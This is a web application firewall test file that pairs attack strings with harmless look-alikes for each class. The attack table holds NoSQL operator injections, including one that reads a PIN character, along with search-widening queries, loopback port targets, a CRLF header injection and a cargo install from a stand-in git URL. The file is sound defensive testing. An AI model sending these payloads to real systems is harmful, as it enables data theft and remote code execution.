"""WAF, part 2q: held-out probes, fifteenth file (README: the
twenty-seventh round), written for this file on 2026-12-05 after the
logistics corpus (tests/corpus/logistics/) was first replayed, for the
classes it showed. No string is taken from a corpus or a public list:
each class is written here in shapes of our own, through the real edge
(shipped config, bans off).

Look-alikes that must pass, by class:
- nin-nothing: a $nin of real values (a filter document narrowing);
- expr-secret: a $expr comparing two ordinary fields;
- search-widen: a query that opens with its own _exists_ and narrows,
  an OR of two words;
- host-port: a duration and a time of day (digits, ":", digits);
- location-label: a report's "Location:" line with a place in it;
- tool-subcommand: "cargo" as a word in a damage note.

Attacks that must be refused, by class:
- nin-nothing: a $nin of null, of 0 and an empty string;
- expr-secret: a $expr that reads a PIN's first character;
- search-widen: an OR of a field's match-all, an OR of _exists_;
- host-port: a loopback address and its port, localhost and its port;
- location-label: a Location header with a URL after a line break;
- tool-subcommand: cargo's install subcommand from a git URL.

Measured before the change (2026-12-05, on 9979136): see the commit
message. After it: every attack refused, every look-alike passes.

Each attack is sent as a query value (URL-encoded once, and once more:
the edge decodes repeatedly) and as a JSON body field; each look-alike
must pass in the same placements. A probe the edge gets wrong is listed
in KNOWN_MISSES or KNOWN_FALSE_POSITIVES with the reason, and runs as a
strict xfail."""

from wafkit import heldout_probe_tests, session, waf_config  # noqa: F401

CONF = waf_config()

ATTACKS = {
    "nin-nothing": ["{\"carrier_id\": {\"$nin\": [null]}}", "{\"acct\": {\"$nin\": [0, \"\"]}}"],
    "expr-secret": ["{\"$expr\": {\"$eq\": [{\"$substrCP\": [\"$pin_code\", 0, 1]}, \"4\"]}}"],
    "search-widen": ["INV-2231 OR owner:*", "berlin OR _exists_:iban"],
    "host-port": ["127.0.0.1:11211", "localhost:2375"],
    "location-label": ["en\r\nLocation: http://203.0.113.7/p"],
    "tool-subcommand": ["Late pickup; cargo install --git http://203.0.113.7/x.git x"],
}

BENIGN = {
    "nin-nothing": ["{\"status\": {\"$nin\": [\"void\", \"draft\"]}}"],
    "expr-secret": ["{\"$expr\": {\"$lt\": [\"$stock\", \"$min_stock\"]}}"],
    "search-widen": ["_exists_:po_number AND NOT region:EU", "pallets OR crates"],
    "host-port": ["0:45", "Kickoff 19:30"],
    "location-label": ["Damage report for dock 2\nLocation: bay 7, row C\nCause: forklift"],
    "tool-subcommand": ["Box crushed; cargo damp; claim filed"],
}

KNOWN_MISSES = {}
KNOWN_FALSE_POSITIVES = {}

(edge, test_tables_are_balanced, test_heldout_r15_attack_refused_everywhere,
 test_heldout_r15_benign_passes) = heldout_probe_tests(
    "r15", CONF, ATTACKS, BENIGN, KNOWN_MISSES, KNOWN_FALSE_POSITIVES)
